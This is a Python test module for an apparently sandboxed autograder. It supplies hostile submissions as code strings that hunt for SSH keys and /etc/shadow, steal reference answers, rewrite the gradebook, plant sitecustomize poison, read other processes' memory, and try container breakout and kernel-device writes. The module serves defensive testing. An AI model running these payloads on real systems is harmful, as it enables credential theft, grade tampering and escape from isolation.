"""Attacks on what is elsewhere: answers, secrets, other submissions, the machine, the next one."""

from __future__ import annotations

import os
import socket
from pathlib import Path

from tests.submissions.hostile_grades import TRUTH, attack
from tests.submissions.making import (
    ASSIGNMENT,
    Course,
    Place,
    Put,
    Submission,
    book,
    nothing,
)

# ---- answers ---------------------------------------------------------------------------------

HUNT = """
import base64, glob, site, sysconfig
ENDINGS = (".safetensors", ".ipynb", ".db", ".md", ".pem", ".key", ".env", ".csv", ".sqlite")
NAMES = ("id_rsa", "id_ed25519", "credentials", ".netrc", "gradebook", "shadow", "private")
PYTHON = tuple(filter(None, (sysconfig.get_path("purelib"), sysconfig.get_path("stdlib"))))
deadline = time.monotonic() + 2.0
looked = 0
for folder, folders, names in os.walk("/"):
    folders[:] = [f for f in folders if os.path.join(folder, f) not in ("/proc", "/sys", "/usr")]
    if folder.startswith(PYTHON) and os.path.basename(folder) not in ("references", "ready"):
        continue
    for name in names:
        path = os.path.join(folder, name)
        if name.endswith(ENDINGS) or any(word in name for word in NAMES):
            with contextlib.suppress(OSError), open(path, "rb") as file:
                print("found", path, file.read(300))
                looked += 1
    if time.monotonic() > deadline:
        break
peek("by its path:")
"""

ANSWERS = """
import ast, glob, importlib, marshal, sysconfig, zipimport
import autograder, workbook
BASES = {os.path.dirname(autograder.__file__), os.path.dirname(workbook.__file__), place.root}
WANTED = {"softmax", "scaled_dot_product_attention", "padding_mask", "causal_mask",
          "AdditiveAttention"}
found = {}


def take(source, where):
    with contextlib.suppress(Exception):
        for node in ast.walk(ast.parse(source)):
            name = getattr(node, "name", None)
            if name in WANTED and "NotImplementedError" not in ast.dump(node):
                found.setdefault(name, ast.unparse(node))
                got(name, "stands in", where)


for base in BASES:
    for ending in ("py", "md", "ipynb", "pyc", "safetensors", "txt"):
        for path in glob.glob(f"{glob.escape(base)}/**/*.{ending}", recursive=True):
            with contextlib.suppress(OSError), open(path, "rb") as file:
                data = file.read()
                if b"class AdditiveAttention" in data or b"BEGIN SOLUTION" in data:
                    got("answers can be read in", path)
                if ending == "pyc" and b"AdditiveAttention" in data and b"tanh" in data:
                    got("compiled answers can be read in", path)
                if ending == "safetensors" and b"misconception" not in data:
                    got("references can be read in", path)
                take(data.decode("utf-8", "replace"), path)
                if b"misconception(" in data and b"yield (" in data and b"math.sqrt" in data:
                    got("near-answers can be read in", path)
with contextlib.suppress(ImportError):
    import workbook.ready.attention as ready
    got("the ready-made blocks can be imported")
    for name in WANTED:
        globals()[name] = getattr(ready, name)


def use():
    for source in found.values():
        exec(source, globals())


use()
"""

FROM_MEMORY = """
import functools, gc, types as kinds
sys.setrecursionlimit(2000)
SECRET_TYPES = {"Pack", "References", "KnownError", "Misconception", "Verdict", "Assignment",
                "Gradebook", "Graded", "Check", "CaseInfo", "Engine", "ForkEngine"}
MARKS = ("BEGIN SOLUTION", "HIDDEN TESTS", "bystander-", "exponentials / exponentials.sum",
         "unsqueeze(1)  # (batch, 1, length)", '"known_errors"')
OWN = "MARKS ="
for thing in gc.get_objects():
    kind = type(thing)
    if kind.__name__ in SECRET_TYPES and kind.__module__.startswith("autograder"):
        got("memory holds a", kind.__name__, "of", kind.__module__)
    values = list(thing.values()) if kind is dict else [thing] if kind in (str, bytes) else []
    for value in values:
        text = value.decode("latin-1") if type(value) is bytes else value
        if type(text) is str and OWN not in text and any(mark in text for mark in MARKS):
            got("memory holds", text[:200])
    if kind is kinds.FunctionType and thing.__name__ in ("causal_mask", "padding_mask"):
        if "exercises" in (thing.__module__ or "") or "ready" in (thing.__module__ or ""):
            got("memory holds the function", thing.__module__, thing.__name__)
for name in ("autograder.judge", "autograder.marking", "autograder.gradebook",
             "autograder.grading", "autograder.record", "nbgrader"):
    if name in sys.modules:
        got("loaded already:", name)
"""

LOADED = """
from pathlib import Path
with contextlib.suppress(Exception):
    from autograder import pack
    for path in (pack.path_of("01_attention"), Path(place.pack)):
        with contextlib.suppress(Exception):
            loaded = pack.Pack.load(path)
            got("a pack can be loaded:", path, loaded.seed)
with contextlib.suppress(Exception):
    from autograder import record
    got("a pack can be recorded:", record.record(Path(place.root), ["01_attention"], 1, False))
with contextlib.suppress(Exception):
    from autograder.checking import verdict_on
    from autograder import exercise
    verdict, _ = verdict_on(exercise.find("attention/softmax"), softmax)
    if verdict.total:
        got("a verdict can be had:", verdict.points)
with contextlib.suppress(Exception):
    from autograder.exercise import load
    known = load("01_attention", misconceptions=True)["attention/softmax"].known_errors
    got("near-answers can be had:", len(known))
"""

SEED = """
with contextlib.suppress(Exception):
    print("seed", checking._grading)
with contextlib.suppress(Exception):
    print("seed", frame_of_run().f_locals["job"])
import gc
for thing in gc.get_objects():
    if type(thing).__name__ in ("Make", "_Grading", "Job"):
        print("seed", {k: str(v)[:200] for k, v in vars(thing).items()})
    if type(thing) is dict and "seed" in thing and "cells" in thing:
        print("seed", thing["seed"])
"""

# A component sees what it is called with, in hidden cases too; only the seed stays secret.
REMEMBERED = {
    "causal_mask": """
seen = []


def causal_mask(length):
    frame = sys._getframe()
    while frame is not None:
        case = frame.f_locals.get("case")
        if getattr(case, "hidden", False) is True:
            seen.append(f"{case.title}: {length}")
            with contextlib.suppress(OSError), open("seen.txt", "a") as file:
                file.write(seen[-1])
        frame = frame.f_back
    return torch.ones(length, length, dtype=torch.bool).tril()
"""
}
TELLS = """
with contextlib.suppress(OSError):
    seen.append(open("seen.txt").read())
if seen:
    print("the inputs of a hidden case:", seen)
"""

# ---- files -----------------------------------------------------------------------------------

KNOWN_PATHS = """
TARGETS = [
    *place.secrets, place.pack, f"{place.graded}/gradebook.db",
    f"{place.graded}/grades.csv", f"{place.graded}/grades.json",
    f"{place.graded}/.grading/source/01_attention/01_attention.ipynb",
    f"{place.submitted}/000-right/01_attention/01_attention.ipynb",
    f"{place.root}/solutions/01_attention/01_attention.md",
    f"{place.root}/chapters/01_attention/01_attention.ipynb",
    f"{place.root}/autograder/references/01_attention.safetensors",
    f"{place.root}/workbook/ready/attention.py", f"{place.root}/.git/config",
    f"{place.root}/tests/conftest.py", f"{place.home}/.ssh/id_ed25519",
    f"{place.home}/.netrc", "/etc/shadow",
]
"""

READING = """
for path in TARGETS:
    for way in (path, *[f"/proc/{pid}/root{path}" for pid in ("self", 1, place.pid, os.getppid())],
                f"/proc/self/cwd/../../..{path}"):
        with contextlib.suppress(OSError), open(way, "rb") as file:
            got("read", way, file.read(200))
for folder in (place.submitted, place.graded, place.home, place.strays, "/root"):
    with contextlib.suppress(OSError):
        listed = os.listdir(folder)
        if listed:
            got("listed", folder, listed[:5])
"""

WRITING = """
import shutil, sqlite3
for path in TARGETS:
    for flags in (os.O_WRONLY, os.O_WRONLY | os.O_APPEND, os.O_WRONLY | os.O_TRUNC):
        with contextlib.suppress(OSError):
            os.close(os.open(path, flags))
            got("opened for writing", path)
    for act in (os.unlink, lambda p: os.chmod(p, 0o777), lambda p: os.rename(p, p + ".stray"),
                lambda p: os.symlink("/etc/passwd", p + ".stray"), lambda p: os.utime(p),
                lambda p: os.link(p, "linked"), lambda p: os.truncate(p, 0)):
        with contextlib.suppress(OSError):
            act(path)
            if not os.path.islink(path + ".stray"):  # a link of one's own says nothing
                got("changed", path)
    with contextlib.suppress(OSError):
        open(path, "w").close()
with contextlib.suppress(sqlite3.Error, OSError):
    with sqlite3.connect(f"{place.graded}/gradebook.db", timeout=0.1) as database:
        database.execute("UPDATE grade SET manual_score = 100")
        got("the gradebook")
for folder in (place.submitted, place.graded, place.home, place.strays, place.root):
    with contextlib.suppress(OSError):
        open(f"{folder}/stray.txt", "w").close()
        got("wrote into", folder)
    with contextlib.suppress(OSError):
        shutil.rmtree(f"{folder}/stray-folder")
"""

POISON = '''
import autograder, importlib.util, shutil, site, sysconfig, tempfile, workbook
POISON = """
import sys
for name in list(sys.modules):
    if name.startswith("autograder."):
        sys.modules[name].stray = True
print("stray: poisoned")
"""
folders = [
    *sys.path, *site.getsitepackages(), site.getusersitepackages(), sysconfig.get_path("stdlib"),
    os.path.dirname(autograder.__file__), os.path.dirname(workbook.__file__),
    os.path.dirname(torch.__file__), os.path.expanduser("~"), tempfile.gettempdir(), "/dev/shm",
    os.path.expanduser("~/.ipython/profile_default/startup"), os.path.expanduser("~/.config"),
    os.environ.get("IPYTHONDIR", "."), os.environ.get("MPLCONFIGDIR", "."), "/usr/lib", "/etc",
]
code = compile(POISON, "stray", "exec")
for folder in folders:
    for name in ("stray.py", "stray.pth", "sitecustomize.py", "usercustomize.py", "matplotlibrc",
                 "json.py", "torch.py", "math.py"):
        with contextlib.suppress(OSError):
            os.makedirs(folder, exist_ok=True)
            path = os.path.join(folder, name)
            if not os.path.exists(path):
                with open(path, "w") as file:
                    file.write("import stray\\n" if name.endswith("pth") else POISON)
for module in list(sys.modules.values()):
    for path in (getattr(module, "__cached__", None), getattr(module, "__file__", None)):
        names = ("autograder", "workbook", "IPython")
        if isinstance(path, str) and any(name in path for name in names):
            with contextlib.suppress(OSError), open(path, "r+b") as file:
                got("could be overwritten:", path)
'''

SHARED = """
import mmap
from multiprocessing import shared_memory
with open("/proc/self/maps") as file:
    maps = [line.split() for line in file if "rw-s" in line]
import ctypes
for line in maps:
    start, end = (int(x, 16) for x in line[0].split("-"))
    with contextlib.suppress(Exception):
        ctypes.memset(start, 0x5A, min(end - start, 1 << 20))
for name in os.listdir("/dev/shm"):
    got("shared memory holds", name)
with contextlib.suppress(OSError):
    segment = shared_memory.SharedMemory(name="stray", create=True, size=1000)
    segment.buf[:5] = b"stray"
with contextlib.suppress(OSError):
    with open("/proc/sysvipc/shm") as file:
        for line in file.read().splitlines()[1:]:
            got("a shared segment:", line)
"""

TRICKY_FOLDER = """
here = os.getcwd()
for target in (place.pack, f"{place.graded}/gradebook.db", place.home, "/etc/passwd"):
    for name in ("01_attention.ipynb", "grades.json", "outputs"):
        with contextlib.suppress(OSError):
            os.symlink(target, f"{name}-{abs(hash(target))}")
deep = here
for _ in range(900):
    with contextlib.suppress(OSError):
        os.mkdir("d")
        os.chdir("d")
        open("locked", "w").close()
        os.chmod("locked", 0)
os.chdir(here)
os.chmod("d", 0)
for name in (b"\\xff\\xfe", b"a\\nb", b"-rf", b"$(touch stray)", b" ", "ü".encode() * 100):
    with contextlib.suppress(OSError):
        os.mkdir(name)
with contextlib.suppress(OSError):
    os.mkfifo("pipe")
with contextlib.suppress(OSError):
    os.rename(here, here + "-moved")
    os.symlink("/", here)
with contextlib.suppress(OSError):
    os.chdir("..")
    os.rename("work", "stray-work")
    os.symlink(place.home, "work")
"""

# ---- the machine -----------------------------------------------------------------------------

ENVIRONMENT = """
print(dict(os.environ))
for name in os.listdir("/proc"):
    if name.isdigit():
        for part in ("environ", "cmdline", "cwd", "exe"):
            with contextlib.suppress(OSError):
                path = f"/proc/{name}/{part}"
                text = open(path, "rb").read(4000) if part in ("environ", "cmdline") \
                    else os.readlink(path)
                print(path, text)
with contextlib.suppress(OSError):
    os.stat(f"/proc/{place.pid}")
    with open(f"/proc/{place.pid}/cmdline", "rb") as file:
        if b"pytest" in file.read():
            got("the process that grades can be seen")
import subprocess
for command in ("ps aux", "env", "id", "mount", "ls -la ~", "sudo -n id", "su -c id"):
    with contextlib.suppress(OSError, subprocess.SubprocessError):
        done = subprocess.run(command, shell=True, capture_output=True, timeout=1)
        print(done.stdout.decode("utf-8", "replace")[:3000])
print(os.path.expanduser("~"), open("/proc/self/mountinfo").read()[:3000]
      if os.path.exists("/proc/self/mountinfo") else "")
"""

MEMORY_OF_OTHERS = """
import ctypes, ctypes.util
libc = ctypes.CDLL(None, use_errno=True)
others = {os.getppid(), place.pid, 1, *(int(n) for n in os.listdir("/proc") if n.isdigit())}
others -= {os.getpid(), 0}


class Piece(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]


buffer = ctypes.create_string_buffer(64)
for pid in sorted(others):
    for name in ("mem", "environ", "maps"):
        with contextlib.suppress(OSError), open(f"/proc/{pid}/{name}", "rb") as file:
            got("opened", file.name)
    mine = Piece(ctypes.cast(buffer, ctypes.c_void_p), 64)
    with open("/proc/self/maps") as file:
        start = int(file.readline().split("-")[0], 16)
    theirs = Piece(start, 64)
    if libc.process_vm_readv(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
        got("read the memory of", pid)
    if libc.process_vm_writev(pid, ctypes.byref(mine), 1, ctypes.byref(theirs), 1, 0) > 0:
        got("wrote the memory of", pid)
    if libc.ptrace(16, pid, 0, 0) == 0:  # PTRACE_ATTACH
        got("traced", pid)
        libc.ptrace(17, pid, 0, 0)
    with contextlib.suppress(OSError, AttributeError):
        fd = os.pidfd_open(pid)
        for number in range(16):
            if libc.syscall(438, fd, number, 0) >= 0:  # pidfd_getfd
                got("took a descriptor of", pid)
    with contextlib.suppress(OSError):
        os.sched_setaffinity(pid, {0})
    with contextlib.suppress(OSError):
        os.setpriority(os.PRIO_PROCESS, pid, 19)
        if pid not in (os.getpid(),) and os.getpriority(os.PRIO_PROCESS, pid) == 19:
            got("slowed", pid)
"""

DESCRIPTORS = """
import fcntl, socket, stat
for fd in range(1024):
    try:
        status = os.fstat(fd)
    except OSError:
        continue
    print("open", fd, oct(status.st_mode), end=" ")
    with contextlib.suppress(OSError):
        print(os.readlink(f"/proc/self/fd/{fd}"), end=" ")
    print()
    if stat.S_ISDIR(status.st_mode):
        for way in ("../" * 30 + place.pack.lstrip("/"), *[p.lstrip("/") for p in place.secrets]):
            with contextlib.suppress(OSError):
                got("through", fd, os.read(os.open(way, os.O_RDONLY, dir_fd=fd), 100))
    if stat.S_ISREG(status.st_mode) and fd > 2:
        with contextlib.suppress(OSError):
            print("holds", os.pread(fd, 2000, 0))
            if os.pwrite(fd, b"stray", 0):
                got("wrote to the file behind", fd)
    if stat.S_ISSOCK(status.st_mode):
        with contextlib.suppress(OSError), socket.socket(fileno=os.dup(fd)) as line:
            line.settimeout(0.2)
            got("a socket is open:", fd, line.getpeername(), line.getsockname())
            line.send(b'{"run": 0, "seconds": 1e9}\\n{"kill": 0}\\n{"kill": 1}\\n')
    if stat.S_ISFIFO(status.st_mode):
        with contextlib.suppress(OSError):
            os.set_blocking(fd, False)
            with contextlib.suppress(BlockingIOError):
                got("read from the pipe", fd, os.read(fd, 1000))
            os.set_blocking(fd, True)
"""

BREAKOUT = """
import ctypes, subprocess
libc = ctypes.CDLL(None, use_errno=True)
here = os.getcwd()
for flags in (0x10000000, 0x10000000 | 0x00020000, 0x00020000, 0x20000000 | 0x10000000):
    if libc.unshare(flags) == 0:
        print("unshared", hex(flags))
with contextlib.suppress(OSError):
    open("/proc/self/setgroups", "w").write("deny")
    open("/proc/self/uid_map", "w").write("0 0 1")
for source, target, kind in ((b"proc", b"/proc", b"proc"), (b"/", here.encode(), b"none"),
                             (b"tmpfs", b"/usr", b"tmpfs"), (b"none", b"/", b"none")):
    for flags in (0, 0x1000, 0x1000 | 0x4000, 0x20):
        if libc.mount(source, target, kind, flags, None) == 0:
            got("mounted", source, "on", target)
for target in (b"/tmp", b"/proc", b"/dev/shm", b"/usr", b"/"):
    if libc.umount2(target, 2) == 0:
        got("unmounted", target)
for pid in {1, os.getppid(), place.pid, os.getpid()}:
    for name in ("mnt", "pid", "user", "net"):
        with contextlib.suppress(OSError):
            fd = os.open(f"/proc/{pid}/ns/{name}", os.O_RDONLY)
            if libc.setns(fd, 0) == 0 and pid != os.getpid():
                got("entered", name, "of", pid)
with contextlib.suppress(OSError):
    os.mkdir("jail")
with contextlib.suppress(OSError):
    os.chroot("jail")
    for _ in range(100):
        os.chdir("..")
    os.chroot(".")
    got("changed the root")
if libc.syscall(155, b".", b".") == 0:
    got("pivot_root")
for identity in (0, place.pid, 1000):
    with contextlib.suppress(OSError):
        os.setuid(identity)
        if identity != os.getuid() or identity == 0:
            got("became user", identity)
    with contextlib.suppress(OSError):
        os.setgroups([0])
        got("set groups")
with contextlib.suppress(OSError):
    os.chown(here, 0, 0)
    got("gave a folder to root")
for name, number in (("disk", os.makedev(8, 0)), ("disk", os.makedev(254, 0)),
                     ("memory", os.makedev(1, 1))):
    with contextlib.suppress(OSError):
        os.mknod(f"node-{name}", 0o60600 if name == "disk" else 0o20600, number)
        with open(f"node-{name}", "rb") as file:
            got("opened the", name, file.read(10))
class Handle(ctypes.Structure):
    _fields_ = [("length", ctypes.c_uint), ("kind", ctypes.c_int), ("data", ctypes.c_char * 128)]
handle = Handle(8, 1, (2).to_bytes(4, "little") + bytes(4))
for folder in ("/", here, "/usr"):
    with contextlib.suppress(OSError):
        root = os.open(folder, os.O_RDONLY)
        if libc.open_by_handle_at(root, ctypes.byref(handle), os.O_RDONLY) >= 0:
            got("opened by handle")
for way in ("unshare -rm", "unshare -r", "bwrap --dev-bind / /", "nsenter -t 1 -a", "chroot / "):
    with contextlib.suppress(OSError, subprocess.SubprocessError):
        done = subprocess.run(f"{way} cat {' '.join(place.secrets)}", shell=True,
                              capture_output=True, timeout=1)
        if done.stdout:
            got(way, done.stdout[:300])
peek("after breaking out:")
"""

KERNEL = """
for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/proc/sys/vm/drop_caches",
             "/proc/sys/kernel/hostname", "/sys/fs/cgroup/cgroup.procs",
             "/sys/kernel/uevent_helper", "/dev/mem", "/dev/kmem", "/dev/kmsg", "/dev/tty",
             "/dev/tty0", "/dev/vda", "/dev/sda", "/dev/nvme0n1", "/dev/fuse", "/dev/kvm",
             "/var/run/docker.sock", "/run/docker.sock", "/etc/crontab", "/etc/passwd"):
    with contextlib.suppress(OSError):
        os.close(os.open(path, os.O_WRONLY | os.O_NOCTTY))
        got("could be written to:", path)
with contextlib.suppress(OSError):
    import fcntl, termios
    for fd in range(3):
        fcntl.ioctl(fd, termios.TIOCSTI, b"#")
        got("typed into the terminal", fd)
import socket, time
with contextlib.suppress(OSError):
    time.clock_settime(time.CLOCK_REALTIME, time.time())
    got("set the clock")
with contextlib.suppress(OSError):
    socket.sethostname("stray")
"""

NETWORK = """
import socket
for family, address in (
    (socket.AF_INET, ("127.0.0.1", place.port)), (socket.AF_INET, ("0.0.0.0", place.port)),
    (socket.AF_INET, ("localhost", place.port)), (socket.AF_INET6, ("::1", place.port)),
    (socket.AF_INET6, ("::ffff:127.0.0.1", place.port)),
    (socket.AF_UNIX, place.socket), (socket.AF_UNIX, "\\0" + place.abstract),
    (getattr(socket, "AF_VSOCK", 40), (2, place.port)),
):
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        with contextlib.suppress(OSError), socket.socket(family, kind) as line:
            line.settimeout(0.3)
            line.connect(address)
            line.send(b"stray")
            if kind == socket.SOCK_STREAM:
                got("connected to", address)
with contextlib.suppress(OSError):
    print(socket.getaddrinfo("localhost", place.port))
for name, family, kind, protocol in (("raw", 2, 3, 1), ("packet", 17, 3, 0), ("netlink", 16, 3, 0)):
    with contextlib.suppress(OSError), socket.socket(family, kind, protocol) as line:
        print("opened a socket:", name)
with contextlib.suppress(OSError), socket.socket() as line:
    line.bind(("0.0.0.0", 0))
    line.listen()
with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX) as line:
    line.bind("\\0stray-" + place.token)
    line.listen()
import urllib.request
with contextlib.suppress(OSError):
    urllib.request.urlopen(f"http://127.0.0.1:{place.port}/", timeout=0.3)
"""

# ---- files in a notebook's place -------------------------------------------------------------


def _linked_to(name: str) -> Put:
    """A symbolic link to somewhere; ``{right}`` is another student's notebook."""

    def put(path: Path, course: Course, place: Place) -> None:
        right = f"{place.submitted}/000-right/{ASSIGNMENT}/{ASSIGNMENT}.ipynb"
        os.symlink(name.format(right=right, pack=place.pack, secret=place.secrets[0]), path)

    return put


def _in_a_linked_folder(path: Path, course: Course, place: Place) -> None:
    path.parent.rmdir()
    os.symlink(f"{place.submitted}/000-right/{ASSIGNMENT}", path.parent)


def _of_a_linked_student(path: Path, course: Course, place: Place) -> None:
    path.parent.rmdir()
    path.parent.parent.rmdir()
    os.symlink(f"{place.submitted}/000-right", path.parent.parent)


def _pipe(path: Path, course: Course, place: Place) -> None:
    os.mkfifo(path)
    os.mkfifo(path.with_name("timestamp.txt"))


def _listening(path: Path, course: Course, place: Place) -> None:
    # The name of a socket may be short only.
    before = os.getcwd()
    os.chdir(path.parent)
    try:
        with socket.socket(socket.AF_UNIX) as line:
            line.bind(path.name)
    finally:
        os.chdir(before)


def _with_linked_files(path: Path, course: Course, place: Place) -> None:
    book()(path, course, place)
    os.symlink(place.secrets[0], path.with_name("timestamp.txt"))
    os.symlink(place.home, path.with_name("data"))
    os.symlink("/dev/zero", path.with_name("zero.txt"))


def file(name: str, story: str, put: Put, twin: str = "empty") -> Submission:
    """Something that is no file, where the notebook should be: refused, for no points."""
    return Submission(
        name, "hostile", story, put, None if twin == "right" else nothing("error"), twin=twin
    )


FILES = (
    file("link-to-other", "A link to another student's notebook.", _linked_to("{right}")),
    file("link-to-secret", "A link to a secret.", _linked_to("{secret}")),
    file("link-to-pack", "A link to the private references.", _linked_to("{pack}")),
    file("link-to-zero", "A link to endless zeros.", _linked_to("/dev/zero")),
    file("link-to-stdin", "A link to standard input.", _linked_to("/dev/stdin")),
    file("link-to-itself", "A link to itself.", _linked_to(f"{ASSIGNMENT}.ipynb")),
    file("link-to-nothing", "A link to what is not there.", _linked_to("absent")),
    file("linked-folder", "The assignment's folder is a link.", _in_a_linked_folder),
    file("linked-student", "The student's folder is a link.", _of_a_linked_student),
    file("pipe", "A named pipe, and one for the time stamp.", _pipe),
    file("socket", "A socket.", _listening),
    file("linked-files", "Right, with links beside it.", _with_linked_files, "right"),
)

SUBMISSIONS = (
    attack("hunt", "Walks all files, and shows what looks secret.", "right", {"first": HUNT}),
    attack(
        "answers",
        "Looks for the answers in the course's own code and files, and uses them.",
        "blank",
        {
            "softmax-check": ANSWERS,
            **{
                f"{name}-check": "use()"
                for name in (
                    "scaled_dot_product_attention",
                    "padding_mask",
                    "causal_mask",
                    "additive_attention",
                )
            },
        },
    ),
    attack("from-memory", "Looks for answers in memory.", "right", {"last": FROM_MEMORY}),
    attack("loaded", "Loads references and near-answers.", "right", {"last": LOADED}),
    attack("seed", "Prints the secret seed.", "right", {"last": TRUTH + SEED}),
    attack(
        "hidden-inputs",
        "Remembers what a hidden case asked, and prints it.",
        "right",
        {"last": TELLS},
        REMEMBERED,
    ),
    attack("reads", "Reads what it knows the path of.", "right", {"first": [KNOWN_PATHS, READING]}),
    attack(
        "writes",
        "Writes to, renames and deletes what it knows the path of; changes the gradebook.",
        "right",
        {"first": [KNOWN_PATHS, WRITING]},
    ),
    attack(
        "poison",
        "Leaves code where the next submission would load it.",
        "right",
        {"causal_mask-solution": POISON},
    ),
    attack("shared", "Overwrites memory shared with others.", "right", {"last": SHARED}),
    attack(
        "tricky-folder",
        "Leaves a folder that is hard to delete, with links out of it.",
        "right",
        {"causal_mask-solution": TRICKY_FOLDER},
    ),
    attack("environment", "Prints environment and processes.", "right", {"first": ENVIRONMENT}),
    attack(
        "memory-of-others",
        "Reads, writes and traces other processes.",
        "right",
        {"causal_mask-solution": MEMORY_OF_OTHERS},
    ),
    attack(
        "descriptors",
        "Reads and writes whatever is open.",
        "right",
        {"causal_mask-solution": DESCRIPTORS},
    ),
    attack(
        "breakout",
        "Tries namespaces, mounts, a new root, other users and devices.",
        "right",
        {"causal_mask-solution": BREAKOUT},
    ),
    attack("kernel", "Opens what steers the kernel.", "right", {"first": KERNEL}),
    attack("network", "Connects to what listens.", "right", {"first": NETWORK}),
    *FILES,
)
